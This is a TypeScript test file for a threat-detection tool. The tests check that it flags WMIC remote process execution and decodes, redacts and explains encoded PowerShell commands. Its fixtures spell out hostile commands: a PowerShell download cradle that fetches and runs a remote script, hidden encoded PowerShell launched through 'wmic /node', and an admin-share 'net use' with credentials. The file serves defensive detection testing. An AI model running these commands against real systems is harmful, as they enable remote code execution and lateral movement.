import { describe, expect, it } from 'vitest';
import { createDetector, DEFAULT_ALLOWLIST } from '../../lambda/detect/index.js';
import { WMIC_REMOTE_EXEC } from '../../lambda/hunts/index.js';
import { explainAnalysis, DEFAULT_EXPLAIN_DEPS, renderExplanation } from '../../local/cli/explain.js';
import { encodePs, shell, wmic } from './helpers.js';

const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')";
const remote = (ps: string): string => `wmic /node:FS01 process call create "${ps}"`;

describe('PowerShell -EncodedCommand payloads are decoded', () => {
  it.each(['-EncodedCommand', '-enc', '-e', '-ec', '-En', '-encodedc', '/enc', '/EncodedCommand', '--encodedcommand'])('decodes the script after %s', (flag) => {
    const a = wmic(remote(`powershell.exe -nop -w hidden ${flag} ${encodePs(CRADLE)}`));
    expect(a.remoteExec).toBe(true);
    expect(a.decodedScript).toBe(CRADLE);
    expect(a.decodeProblem).toBeNull();
  });

  it('decodes for pwsh and a full path, and leaves non-PowerShell commands and plain -Command alone', () => {
    expect(wmic(remote(`C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -e ${encodePs('whoami')}`)).decodedScript).toBe('whoami');
    expect(wmic(remote(`pwsh -ec ${encodePs('whoami')}`)).decodedScript).toBe('whoami');
    expect(wmic(remote(`powershell -c echo ${encodePs('whoami')}`)).decodedScript).toBeNull();
    expect(wmic(remote(`notepad.exe -e ${encodePs('whoami')}`)).decodedScript).toBeNull();
    expect(wmic(remote('powershell -ExecutionPolicy Bypass -File x.ps1')).decodedScript).toBeNull();
  });

  it('shows the script a PowerShell parent line decodes to launch wmic, and an encoded parent command line', () => {
    const inner = "wmic /node:10.0.0.15 process call create 'C:\\ProgramData\\s.exe'";
    const a = shell('powershell.exe', `powershell.exe -NoP -NonI -enc ${encodePs(inner)}`);
    expect(a).toMatchObject({ remoteExec: true, targets: ['10.0.0.15'], decodedScript: inner });
    const b = wmic('wmic /node:FS01 process call create calc.exe', { actor_process_command_line: `powershell -e ${encodePs('Start-Process wmic')}` });
    expect(b.decodedScript).toBe('Start-Process wmic');
  });

  it('redacts passwords in the script and withholds the base64 that would give them away', () => {
    const script = 'net use \\\\fs01\\c$ /user:corp\\adm /password:Hunter22';
    const a = wmic(remote(`powershell -enc ${encodePs(script)}`));
    expect(a.decodedScript).toBe('net use \\\\fs01\\c$ /user:corp\\adm /password:***');
    const everything = JSON.stringify(a);
    expect(everything).not.toContain('Hunter22');
    expect(everything).not.toContain(encodePs(script));
  });

  it('caps a long script at 1,000 characters with a visible marker and makes controls visible', () => {
    const long = wmic(remote(`powershell -enc ${encodePs(`Write-Host ${'A'.repeat(5000)}`)}`)).decodedScript!;
    expect(long.length).toBeLessThan(1100);
    expect(long).toMatch(/…\[decoded script truncated, 5011 chars in total\]$/);
    const hidden = wmic(remote(`powershell -enc ${encodePs('Write-Host "a"\r\n# \u202Egnp.exe\u0007')}`)).decodedScript;
    expect(hidden).toBe('Write-Host "a"\n# [U+202E]gnp.exe[U+0007]');
  });

  it('gives no script, and says why, for a payload that is not base64 or not UTF-16LE; the finding stays', () => {
    const bad = wmic(remote('powershell -enc !!!not-base64!!!'));
    expect(bad).toMatchObject({ remoteExec: true, decodedScript: null, decodeProblem: 'the -EncodedCommand payload is not base64' });
    // base64 of UTF-8 text (a common mistake): PowerShell would not run it either
    const utf8 = wmic(remote(`powershell -enc ${Buffer.from(CRADLE, 'utf8').toString('base64')}`));
    expect(utf8).toMatchObject({ remoteExec: true, decodedScript: null, decodeProblem: 'the -EncodedCommand payload is not UTF-16LE text' });
    expect(wmic(remote('powershell -enc')).decodeProblem).toBe('the -EncodedCommand payload is empty');
  });

  it('decodes the whole characters of a payload a collector cut', () => {
    const b64 = encodePs(CRADLE);
    const a = wmic(remote(`powershell -enc ${b64}`).slice(0, 'wmic /node:FS01 process call create "powershell -enc '.length + 41));
    expect(a.truncated).toBe(true);
    expect(CRADLE.startsWith(a.decodedScript!)).toBe(true);
    expect(a.decodedScript!.length).toBeGreaterThan(10);
  });

  it('carries the script into the finding and into explain (JSON and text)', () => {
    const line = remote(`powershell -nop -enc ${encodePs(`${CRADLE}\nWrite-Host ok`)}`);
    const detect = createDetector({ hunt: WMIC_REMOTE_EXEC, allowlist: DEFAULT_ALLOWLIST });
    const { findings } = detect([{ event_id: 'e1', agent_hostname: 'WKS-1', action_process_image_name: 'wmic.exe', action_process_image_command_line: line, _time: 1 }], 1);
    expect(findings[0]!.decodedScript).toBe(`${CRADLE}\nWrite-Host ok`);
    const out = explainAnalysis(wmic(line), DEFAULT_EXPLAIN_DEPS);
    expect(out.decodedScript).toBe(`${CRADLE}\nWrite-Host ok`);
    expect(out.remoteCommand).toContain('-enc ');
    const text = renderExplanation(out, line);
    expect(text).toContain(`decoded PowerShell (-EncodedCommand):\n  | ${CRADLE}\n  | Write-Host ok\n`);
  });
});
